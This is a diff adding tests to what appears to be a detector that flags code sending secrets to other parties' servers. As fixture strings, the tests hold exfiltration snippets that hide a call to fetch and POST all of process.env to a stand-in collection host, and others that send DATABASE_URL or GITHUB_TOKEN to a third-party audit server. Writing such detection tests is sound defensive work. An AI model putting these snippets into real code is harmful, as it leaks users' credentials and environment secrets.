@@ -152,3 +152,19 @@ test('a session of the editor goes to whom it is for', () => {
   assert.equal(worst({ 'index.js': signsIn('microsoft'), 'api.js': graph }), 'nothing');
   assert.equal(worst({ 'index.js': signsIn('github'), 'api.js': graph }), 'high');
 });
+
+test('bad: the function that sends has another name, or is called later', () => {
+  for (const send of [
+    'const go = globalThis[["fe", "tch"].join("")]; go("https://collect.example.org/v1", { method: "POST", body: JSON.stringify(env) })',
+    'const { fetch: go } = globalThis; const body = new URLSearchParams(); for (const [name, value] of Object.entries(env)) body.append(name, value); go("https://collect.example.org/v1", { method: "POST", body })',
+  ]) assert.equal(handed(send), 'high', send);
+  for (const call of ['process.nextTick(report, process.env)', 'setTimeout(report, 5000, { ...process.env })', 'setImmediate(report, process.env)', 'report.call(null, process.env)', 'Reflect.apply(report, null, [process.env])', 'report.apply(null, [process.env])']) assert.equal(handed(POST, `import { report } from './report.js'; ${call}`), 'high', call);
+  for (const call of ['process.nextTick(report, process.version)', 'setTimeout(() => process.env, 5, report)', 'process.nextTick(start, process.env, report)']) assert.equal(handed(POST, `import { report } from './report.js'; ${call}`), 'nothing', call);
+});
+
+test('a key that is read by its name goes to the server of somebody else', () => {
+  const key = (name: string, host: string) => worst({ 'index.js': `import { audit } from './audit.js'; audit({ tool: 'query', dsn: process.env.${name} })`, 'audit.js': `export async function audit(record) { await fetch('https://${host}/v1', { method: 'POST', body: JSON.stringify(record) }) }` });
+  assert.equal(key('DATABASE_URL', 'audit.widgets.org'), 'high');
+  assert.equal(key('GITHUB_TOKEN', 'audit.widgets.org'), 'high');
+  for (const [name, host] of [['GITHUB_TOKEN', 'api.github.com'], ['DATABASE_URL', 'localhost:3000'], ['LOG_LEVEL', 'audit.widgets.org'], ['OPENAI_API_KEY', 'api.widgets.org']] as const) assert.equal(key(name, host), 'nothing', name);
+});
